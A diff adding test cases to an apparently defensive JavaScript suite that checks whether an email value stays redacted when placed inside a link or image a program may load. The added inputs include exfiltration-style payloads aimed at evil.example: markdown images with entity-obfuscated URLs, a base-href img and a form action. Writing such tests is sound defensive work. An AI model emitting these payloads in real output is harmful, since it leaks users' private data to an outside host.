@@ -65,6 +65,16 @@ describe('stays', () => {
     `https://${mail.text}.evil.example/`,
     `https://evil.example/? ${mail.text}`,
     `x ${'y'.repeat(3000)}${mail.text}`,
+    `<base href="https://evil.example/"><img src="${mail.text}">`,
+    `<img alt="<b>" src="${mail.text}">`,
+    `<img alt=a" title=">" src="${mail.text}">`,
+    `<img/src=${mail.text}>`,
+    `<form action=https://evil.example/><input name=a value="${mail.text}">`,
+    `<p>${'<b>a</b>'.repeat(200)}<img title="${'a '.repeat(1500)}" src="${mail.text}">`,
+    `![a](https&colon;&sol;&sol;evil.example&sol;${mail.text})`,
+    `![a](https&#58;&#x2f;&#47evil.example/${mail.text})`,
+    `![a](https&colon;//evil.example/?a&#32;b&#x29;${mail.text})`,
+    `![a](&#104;ttps&#x3A&#x2F&#x2Fevil.example/${mail.text})`,
   ])('in an address a program may open: %s', (text) => expect(said(text)).toBe(text));
 
   test.each([
@@ -75,6 +85,11 @@ describe('stays', () => {
     `[a](https://docs.example) ${mail.text}`,
     `https://docs.example/a\n${mail.text}`,
     `mailto:${mail.text}`,
+    `From: Ana <${mail.text}>`,
+    `<td class="to">${mail.text}</td>`,
+    `<p title="a > b">To</p> ${mail.text}`,
+    `if a <b or c > d then ${mail.text}`,
+    `Q&A: this &amp; that, ${mail.text}`,
     `${'y '.repeat(3000)}${mail.text}`,
   ])('and not beside one: %s', (text) => expect(said(text)).toBe(text.replace(mail.text, mail.original)));
 });
